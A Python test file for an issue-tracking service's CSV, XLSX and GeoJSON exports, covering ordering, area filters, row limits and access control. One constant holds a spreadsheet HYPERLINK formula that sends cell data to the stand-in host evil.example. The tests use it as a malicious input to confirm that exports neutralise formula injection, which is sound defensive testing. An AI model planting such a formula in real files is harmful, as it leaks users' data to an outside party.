"""What staff take home is complete, is theirs to see, and does nothing when it is opened."""

import csv
import io
import json
from typing import Any

import pytest
from httpx import AsyncClient
from openpyxl import load_workbook

from intake.api import exporting

from .reporting import Token, reported

FORMULA = '=HYPERLINK("http://evil.example?"&A1,"点我")'


async def rows_of(client: AsyncClient, headers: dict[str, str], **params: Any) -> list[dict[str, str]]:
    answer = await client.get("/v1/issues/export.csv", params=params, headers=headers)
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))


async def test_each_form_has_what_was_looked_for(
    client: AsyncClient, token: Token, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(exporting, "PAGE", 2)
    staff = token("staff")
    place = {"location": {"lat": 26.0391, "lon": 119.3244}}
    first = await reported(client, f"漏雨 {FORMULA}", **place)
    made = [*reversed([await reported(client, FORMULA) for _ in range(4)]), first]
    await reported(client, "别处", area="sanchajie/jinpu")
    params = {"area": "sanchajie/jinpu/lianbang"}
    rows = await rows_of(client, staff, **params)
    assert [row["id"] for row in rows] == made
    assert rows[0]["description"] == f"'{FORMULA}"
    assert (rows[-1]["lat"], rows[-1]["area_name"]) == ("26.0391", "联邦新城3号楼")
    xlsx = await client.get("/v1/issues/export.xlsx", params=params, headers=staff)
    sheet = load_workbook(io.BytesIO(xlsx.content))["issues"]
    cells = [[str(one.value or "") for one in row] for row in sheet.iter_rows(min_row=2)]
    assert cells == [list(row.values()) for row in rows]
    assert "f" not in {one.data_type for row in sheet.iter_rows(min_row=2) for one in row}
    geojson = await client.get("/v1/issues/export.geojson", params=params, headers=staff)
    collection = json.loads(geojson.content)
    assert [one["id"] for one in collection["features"]] == made
    assert collection["features"][-1]["geometry"] == {"type": "Point", "coordinates": [119.3244, 26.0391]}
    assert collection["features"][0]["geometry"] is None
    assert collection["features"][0]["properties"]["description"] == FORMULA


async def test_an_export_of_nothing_is_a_file_all_the_same(client: AsyncClient, token: Token) -> None:
    staff = token("staff")
    assert await rows_of(client, staff) == []
    empty = await client.get("/v1/issues/export.geojson", headers=staff)
    assert empty.json() == {"type": "FeatureCollection", "features": []}


async def test_a_workbook_that_would_be_too_long_is_refused_and_nothing_is_left_out(
    client: AsyncClient, token: Token, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(exporting, "MOST_ROWS_XLSX", 3)
    for number in range(4):
        await reported(client, f"第{number}件" + ("漏雨" if number else ""))
    refused = await client.get("/v1/issues/export.xlsx", headers=token("staff"))
    assert (refused.status_code, refused.json()["type"].rpartition("/")[2]) == (409, "too-many-rows")
    assert "at most 3 rows" in refused.json()["detail"]
    fitting = await client.get("/v1/issues/export.xlsx", params={"q": "漏雨"}, headers=token("staff"))
    assert load_workbook(io.BytesIO(fitting.content))["issues"].max_row == 4
    assert len(await rows_of(client, token("staff"))) == 4


def test_a_workbook_never_has_more_rows_than_excel_opens() -> None:
    assert exporting.MOST_ROWS_XLSX < 1_048_576


async def test_nobody_takes_home_what_they_may_not_see(client: AsyncClient, token: Token) -> None:
    await reported(client, "邻里纠纷", category="dispute.neighbour")
    assert await rows_of(client, token("staff")) == []
    assert len(await rows_of(client, token("supervisor"))) == 1
    assert await rows_of(client, token("staff", areas=("elsewhere",))) == []
    assert (await client.get("/v1/issues/export.csv")).status_code == 401
    assert (await client.get("/v1/issues/export.pdf", headers=token("staff"))).status_code == 422
